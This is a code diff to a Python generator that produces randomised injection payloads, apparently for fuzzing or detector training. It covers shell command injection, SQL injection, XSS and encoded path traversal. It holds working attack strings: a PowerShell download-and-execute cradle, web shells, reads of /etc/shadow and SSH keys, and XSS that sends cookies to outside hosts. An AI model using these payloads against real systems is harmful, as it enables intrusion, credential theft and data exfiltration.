@@ -16,7 +16,7 @@ COMMANDS = ("id", "whoami", "uname -a", "cat /etc/passwd", "cat /etc/shadow", "l
             "cat${{IFS}}/etc/passwd", "c'a't /etc/pa''sswd", "/???/c?t /???/p??s??", "cat</etc/passwd", "{{cat,/etc/passwd}}", "$(printf 'id')", "sysinfo", "net view", "print('{w}')", "$u/bin$u/cat$u $u/etc$u/passwd$u", "telnet {ip} {port}", "head -n1 /etc/passwd")
 WINDOWS = ("dir", "dir C:\\", "type C:\\boot.ini", "type C:\\Windows\\win.ini", "ipconfig /all", "net user", "net user {w} {w2} /add", "whoami", "ver", "systeminfo", "tasklist", "ping -n {n} {ip}",
            "powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://{host}/{w}.ps1')\"", "powershell -enc {b}", "certutil -urlcache -split -f http://{host}/{w}.exe {w}.exe", "cmd /c dir", "cmd.exe /c whoami", "nslookup {host}", "timeout {n}")
-SEPARATORS = (";{c}", "; {c}", ";{c};", "|{c}", "| {c}", "||{c}", "|| {c}", "&{c}", "&& {c}", "& {c} &", "`{c}`", "$({c})", "\n{c}\n", "\r\n{c}", "%0a{c}", "%0A{c}%0A", "';{c};'", "\";{c};\"", "');{c};#", "|{c}||", "x;{c}", "127.0.0.1;{c}",
+SEPARATORS = ("\n{c}", "\n{c}\n", "\n{c}|", "'\n{c}\n'", ";{c}", "; {c}", ";{c};", "|{c}", "| {c}", "||{c}", "|| {c}", "&{c}", "&& {c}", "& {c} &", "`{c}`", "$({c})", "\n{c}\n", "\r\n{c}", "%0a{c}", "%0A{c}%0A", "';{c};'", "\";{c};\"", "');{c};#", "|{c}||", "x;{c}", "127.0.0.1;{c}",
               "a.txt|{c}", "8.8.8.8 && {c}", "test`{c}`", "$({c})x", "1;{c}#", "\"|{c}|\"", "'|{c}|'", "{c}|", "&{c}&", "\";{c} #", "';{c} #", "<!--#exec cmd=\"{c}\"-->", "() {c}")
 CODE = ("${{@print(\"{w}\")}}", "${{@print(md5({n}))}}", "@system({w});@", "print(`{c}`)", "{{@exec('{c}')}}", "<?php system('{c}'); ?>", "<?php echo shell_exec($_GET['{w}']);?>", "<?=`{c}`?>", "system('{c}');", "${{@system('{c}')}}", "passthru(\"{c}\")", "eval(base64_decode('{b}'))", "<?php @eval($_POST['{w}']);?>", "assert($_REQUEST['{w}'])", "phpinfo()", ";phpinfo();",
         "__import__('os').system('{c}')", "__import__('subprocess').check_output('{c}',shell=True)", "eval(compile('import os;os.popen(\"{c}\")','x','exec'))", "require('child_process').execSync('{c}')", "process.mainModule.require('child_process').exec('{c}')",
@@ -76,15 +76,24 @@ def sqli(rng):
         f"; DROP TABLE {rng.choice(TABLES)}", f"; DELETE FROM {rng.choice(TABLES)}", f"; INSERT INTO {rng.choice(TABLES)} VALUES ({number},'{_word(rng)}')", f"; UPDATE {rng.choice(TABLES)} SET password='{_word(rng)}'", "; EXEC xp_cmdshell('dir')", "; EXEC master..xp_dirtree '\\\\\\\\x'", "; SHUTDOWN",
         f"ORDER BY {rng.randrange(1, 40)}", f"GROUP BY {number} HAVING 1=1", f"HAVING 1=1", f"AND ({select} LIMIT 1)={number}", f"AND ASCII(SUBSTRING(({select} LIMIT 0,1),{rng.randrange(1, 9)},1))>{rng.randrange(32, 126)}", f"AND EXTRACTVALUE({number},CONCAT(0x7e,({select})))", f"AND UPDATEXML(1,CONCAT(0x7e,USER()),1)",
         f"AND (SELECT COUNT(*) FROM {rng.choice(TABLES)})>0", f"PROCEDURE ANALYSE()", f"INTO OUTFILE '/var/www/{_word(rng)}.php'", f"AND 1=CONVERT(INT,(SELECT @@version))", f"AND 1=CAST(({select}) AS INT)", f"AND CTXSYS.DRITHSX.SN({number},({select}))", f"OR EXISTS({select})", f"RLIKE (SELECT (CASE WHEN ({truth}) THEN 1 ELSE 0x28 END))",
-        f"AND IF({truth},SLEEP({rng.randrange(1, 9)}),0)", f"OR BENCHMARK({number}0000,MD5(1))", f"{select} LIMIT 1", f"SELECT LOAD_FILE(CONCAT(0x5c5c5c5c,VERSION(),0x2e{number}))", f"ORDER BY SLEEP({rng.randrange(1, 9)})", f"AND LEN(@@servername)>{number % 9}", f"OR user_id IS NOT NULL", f"AND CONVERT(INT,@@servername)", f"LIKE '%{_word(rng)}%'", f"OR {number} IN (SELECT @@version)", f"AND 1 IN ({select})", f"AND ROW(1,1)>(SELECT COUNT(*),CONCAT(VERSION(),FLOOR(RAND()*2)) x FROM {rng.choice(TABLES)} GROUP BY x)", f"; DROP TABLE {_word(rng)}", f"OR username LIKE '%{_word(rng)}'", f"AND EXP(~(SELECT * FROM ({select})a))", f"AND JSON_KEYS((SELECT CONVERT(({select}) USING utf8)))", f"UNION VALUES ROW({nulls})", f"; CALL SYS.{_word(rng)}()", f"OR 1 GROUP BY CONCAT(VERSION(),FLOOR(RAND(0)*2)) HAVING MIN(0)", f"; DECLARE @q VARCHAR(99);SET @q='{_word(rng)}';EXEC(@q)"))
+        f"AND IF({truth},SLEEP({rng.randrange(1, 9)}),0)", f"OR BENCHMARK({number}0000,MD5(1))", f"{select} LIMIT 1", f"SELECT LOAD_FILE(CONCAT(0x5c5c5c5c,VERSION(),0x2e{number}))", f"ORDER BY SLEEP({rng.randrange(1, 9)})", f"AND LEN(@@servername)>{number % 9}", f"OR {_word(rng)}_id IS NOT NULL", f"|| {_word(rng)} IS NOT NULL", f"SLEEP({rng.randrange(1, 20)})='", f"; EXEC MASTER..XP_CMDSHELL 'ping {number}'", f"; DECLARE @q VARCHAR(200) SELECT @q=0x{number}00{other} EXEC(@q)", f"AND CONVERT(INT,@@servername)", f"LIKE '%{_word(rng)}%'", f"OR {number} IN (SELECT @@version)", f"AND 1 IN ({select})", f"AND ROW(1,1)>(SELECT COUNT(*),CONCAT(VERSION(),FLOOR(RAND()*2)) x FROM {rng.choice(TABLES)} GROUP BY x)", f"; DROP TABLE {_word(rng)}", f"OR username LIKE '%{_word(rng)}'", f"AND EXP(~(SELECT * FROM ({select})a))", f"AND JSON_KEYS((SELECT CONVERT(({select}) USING utf8)))", f"UNION VALUES ROW({nulls})", f"; CALL SYS.{_word(rng)}()", f"OR 1 GROUP BY CONCAT(VERSION(),FLOOR(RAND(0)*2)) HAVING MIN(0)", f"; DECLARE @q VARCHAR(99);SET @q='{_word(rng)}';EXEC(@q)"))
     if rng.random() < 0.06:
         return _case(rng.choice((select, f"{select} WHERE {truth}", f"DROP TABLE {rng.choice(TABLES)};", "admin'--", "admin' #", "' OR ''='", "'='", "' or '", "'-'", "'^'", "'&'", "1' or '1'='1", "') or ('1'='1--", "1;SELECT 1", "'; --", "'||'1'||'", "@@version", "1/0--")), rng)
-    return _case((quote + " " + body + end).replace(" ", gap), rng)
+    joint = " " if rng.random() < 0.85 or not quote else ""
+    return _case((quote + joint + body + end).replace(" ", gap), rng)
 
+
+
+def _script(rng):
+    """Any JavaScript: what runs matters less than that it runs."""
+    a, b = _word(rng), _word(rng)
+    return rng.choice((f"{a}()", f"{a}({rng.randrange(99)})", f"{a}.{b}()", f"[{rng.randrange(9)}].{rng.choice(('some', 'map', 'find', 'every', 'forEach', 'filter', 'sort'))}({rng.choice(('alert', 'confirm', 'prompt', a))})", f"{rng.choice(('alert', 'confirm', 'prompt', 'print'))}``", f"{a}=1",
+                       f"window.{a}={b}", f"location='//{a}.{b}'", f"new Image().src='//{a}.{b}/?'+document.cookie", f"with(document)body.appendChild(createElement('script')).src='//{a}.{b}'", f"setTimeout('{a}()',{rng.randrange(999)})", f"Function('{a}()')()", f"this[{rng.choice((chr(39) + 'alert' + chr(39), '/*x*/' + chr(34) + 'al' + chr(34) + '+' + chr(34) + 'ert' + chr(34)))}](1)",
+                       f"{rng.choice(('alert', 'confirm', 'prompt'))}({rng.choice((chr(39) + a + chr(39), chr(34) + a + chr(34), 'location', 'origin', '/' + a + '/.source', str(rng.randrange(9999)), 'document.domain', 'window.name'))})", f"a=alert,a(1)", f"{{onerror=alert}}throw 1", f"$({chr(39)}#{a}{chr(39)}).html(1)", f"document.body.innerHTML='{a}'", "&#97;&#108;&#101;&#114;&#116;&#40;1&#41;", "al&#x65;rt(1)", "\\u{61}lert(1)", f"navigator.sendBeacon('//{a}.{b}',document.cookie)", f"parent.postMessage('{a}','*')", "debugger", "self[`al`+`ert`]`1`", "Reflect.apply(alert,null,[1])", "eval.call`${'alert\\x281)'}`"))
 
 
 def xss(rng):
-    call = rng.choice(("alert(1)", "alert(document.cookie)", "alert`1`", "prompt(1)", "confirm(document.domain)", f"alert('{_word(rng)}')", "eval(atob('YWxlcnQoMSk='))", f"fetch('//{_word(rng)}.com/?c='+document.cookie)", f"document.location='http://{_word(rng)}.com/'+document.cookie",
+    call = _script(rng) if rng.random() < 0.45 else rng.choice(("alert(1)", "alert(document.cookie)", "alert`1`", "prompt(1)", "confirm(document.domain)", f"alert('{_word(rng)}')", "eval(atob('YWxlcnQoMSk='))", f"fetch('//{_word(rng)}.com/?c='+document.cookie)", f"document.location='http://{_word(rng)}.com/'+document.cookie",
                        "window['al'+'ert'](1)", "top[/al/.source+/ert/.source](1)", "alert(String.fromCharCode(88,83,83))", "import('//x.y')", "location=name", "[1].find(alert)", "(alert)(1)", "eval(location.hash.slice(1))", "print()", "document.write('<x>')", "self['ale'+'rt'](1)", "$.getScript('//x.y/z')", "\\u0061lert(1)", "new Function`al\\ert\\`1\\``", "throw onerror=alert,1"))
     tag, event = rng.choice(TAGS), rng.choice(EVENTS)
     quote = rng.choice(("", "'", "\""))
@@ -103,10 +112,25 @@ def xss(rng):
 FILES = ("etc/passwd", "etc/passwd", "etc/shadow", "etc/hosts", "etc/issue", "proc/self/environ", "proc/version", "windows/win.ini", "boot.ini", "windows/system32/drivers/etc/hosts", "WEB-INF/web.xml", "var/log/apache2/access.log", "root/.ssh/id_rsa", "home/{w}/.bash_history", "etc/nginx/nginx.conf", ".env", "config.php", "wp-config.php", ".git/config", "etc/group", "proc/self/cmdline", "windows/system.ini", "inetpub/wwwroot/web.config", "usr/local/apache/conf/httpd.conf", "etc/mysql/my.cnf")
 
 
+DOTS = (".", ".", "%2e", "%252e", "0x2e", "%c0%ae", "%c0%2e", "%c0.", "?", "%uff0e", "%u002e", "%e0%80%ae", "%e0%40%ae", "%f0%80%80%ae", "%f8%80%80%80%ae", "%fc%80%80%80%80%ae", "%%32%65", "%25c0%25ae", ".%00", "%c0%fe", "%01.", "\\.", "%3F", "%ae", "%5c.", "%ff.", ".%01", "\uff0e")
+SLASHES = ("/", "/", "\\", "%2f", "%5c", "%252f", "%255c", "0x2f", "0x5c", "%c0%af", "%c1%9c", "%c0%2f", "%c0%5c", "%c0%9v", "%c0%qf", "%bg%qf", "%c1%1c", "%c1%af", "%c1%8s", "%c1%pc", "%u2215", "%u2216", "%uEFC8", "%uF025", "%uff0f", "%e0%80%af", "%f0%80%80%af", "%f8%80%80%80%af", "%fc%80%80%80%80%af", "%%32%66", "%%35%63", "%25c0%25af", "%5c%5c", "//", "\\\\", "%2f%2f", "/.\\", "%c0/", "%c0\\", "\u2215", "%af")
+
+
+def odd_traversal(rng):
+    """Dots and slashes in any of the encodings that path fuzzers try, also in the file's own path."""
+    first = rng.choice(DOTS)
+    second = first if rng.random() < 0.7 else rng.choice(DOTS)
+    slash = rng.choice(SLASHES)
+    file = rng.choice(FILES).format(w=_word(rng)) if rng.random() < 0.6 else rng.choice(("etc/passwd", "etc/issue", "boot.ini", "windows/system32/drivers/etc/hosts", "windows/win.ini", "etc/shadow"))
+    return rng.choice(("", "", "", "/", slash)) + (first + second + slash) * rng.randrange(2, 11) + file.replace("/", slash if rng.random() < 0.85 else "/")
+
+
 def traversal(rng):
     file = rng.choice(FILES).format(w=_word(rng))
     if rng.random() < 0.22:
         return rng.choice(("/{f}", "file:///{f}", "php://filter/convert.base64-encode/resource={f}", "php://filter/read=string.rot13/resource=/{f}", "expect://id", "zip://{w}.zip%23{w}.php", "phar://{w}.phar", "/{f}%00", "C:\\{b}", "/%2e/%2e%2e/{f}", "\\\\{w}\\c$\\{b}", "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOw==", "/proc/self/fd/{n}", "php://input", "netdoc:///{f}", "jar:file:///{f}!/x", "file://localhost/{f}")).format(f=file, w=_word(rng), b=file.replace("/", "\\"), n=rng.randrange(40))
+    if rng.random() < 0.4:
+        return odd_traversal(rng)
     unit = rng.choice(("../", "../", "../", "../", "..\\", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%5c", "....//", "..;/", "..%252f", "%252e%252e%252f", "..%c0%af", "%c0%ae%c0%ae/", "..%u2215", "..././", "....\\/", "..//", "/../", "..%00/", ".%2e/", "..%ef%bc%8f", "..\\/", "%uff0e%uff0e/", "..%255c", ".../.../", "..%c1%9c"))
     text = rng.choice(("", "", "", "/", "./", "images/", "/var/www/html/", "C:\\", "file:///", "static/", "....//")) + unit * rng.randrange(1 if "etc" in file else 2, 11)
     file = file if rng.random() < 0.8 else file.replace("/", rng.choice(("%2f", "\\", "//", "/./", "%5c")))
